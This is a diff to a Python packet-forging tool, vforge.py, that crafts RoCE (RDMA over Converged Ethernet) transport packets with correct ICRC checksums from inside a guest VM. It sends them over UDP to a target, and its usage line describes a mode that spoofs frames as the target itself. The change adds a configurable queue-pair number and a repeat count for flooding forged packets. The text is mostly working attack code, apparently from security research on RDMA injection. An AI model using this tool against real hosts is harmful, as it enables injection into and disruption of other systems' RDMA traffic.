@@ -2,8 +2,8 @@
 # SPDX-License-Identifier: GPL-2.0
 """RoCE packets, right to the last bit, from who should not send them; runs in a guest.
 
-usage: vforge.py datagrams TARGET          by an ordinary UDP socket: anybody may
-       vforge.py claims NETDEV MAC TARGET  frames that claim to come from TARGET itself
+usage: vforge.py datagrams TARGET [QPN [N]]  by an ordinary UDP socket: anybody may
+       vforge.py claims NETDEV MAC TARGET    frames that claim to come from TARGET itself
 """
 
 import socket
@@ -17,7 +17,7 @@ PACKETS = 16
 QPN = 0xfffff0
 
 
-def datagrams(target):
+def datagrams(target, qpn=QPN, packets=PACKETS):
     """The IP header is the kernel's, and known: see vattack.py."""
     family = socket.AF_INET6 if ":" in target else socket.AF_INET
     with socket.socket(family, socket.SOCK_DGRAM) as sock:
@@ -28,17 +28,19 @@ def datagrams(target):
         if family == socket.AF_INET:
             sock.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO
         ends = [socket.inet_pton(family, address) for address in (source, target)]
+        ready = []
         for psn in range(PACKETS):
-            transport = vattack.bth(0x04, QPN, psn) + bytes(16)
+            transport = vattack.bth(0x04, int(qpn), psn) + bytes(16)
             length = 8 + len(transport) + 4
             if family == socket.AF_INET:
                 ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 0, 0x4000, 64, 17, 0)
             else:
                 ip = struct.pack(">IHBB", 6 << 28, length, 17, 64)
             udp = struct.pack(">HHHH", sock.getsockname()[1], vattack.PORT, length, 0)
+            ready.append(transport + vattack.icrc(ip + b"".join(ends), udp, transport))
+        for n in range(int(packets)):
             try:
-                sock.sendto(transport + vattack.icrc(ip + b"".join(ends), udp, transport),
-                            (target, vattack.PORT))
+                sock.sendto(ready[n % PACKETS], (target, vattack.PORT))
             except PermissionError:
                 pass  # a firewall said so
 
